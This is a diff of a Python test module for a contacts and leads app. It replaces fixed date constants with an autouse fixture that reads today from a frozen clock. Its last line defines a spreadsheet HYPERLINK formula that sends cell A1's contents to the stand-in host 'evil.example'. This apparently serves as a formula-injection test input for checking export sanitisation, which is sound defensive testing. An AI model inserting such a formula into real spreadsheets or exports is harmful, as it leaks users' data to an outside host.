@@ -20,9 +20,21 @@ from contactos.listing import LeadFilter
 from contactos.models import Activity, Contact, Lead, Representada, Source
 from contactos.rules import NextAction
 
-TODAY = dt.date.today()
-TOMORROW = TODAY + dt.timedelta(days=1)
-YESTERDAY = TODAY - dt.timedelta(days=1)
+# The test's days, read from the program's clock as each test starts (see _days).
+TODAY = TOMORROW = YESTERDAY = None
+
+
+@pytest.fixture(autouse=True)
+def _days(clock):
+    """Today and the days around it as the program's clock reads them, held still for
+    the test by the `clock` fixture: a run across midnight reads one day."""
+    global TODAY, TOMORROW, YESTERDAY
+    today = clock.today()
+    TODAY = today
+    TOMORROW = today + dt.timedelta(days=1)
+    YESTERDAY = today - dt.timedelta(days=1)
+
+
 ZONE = "America/Mexico_City"
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Clic")'
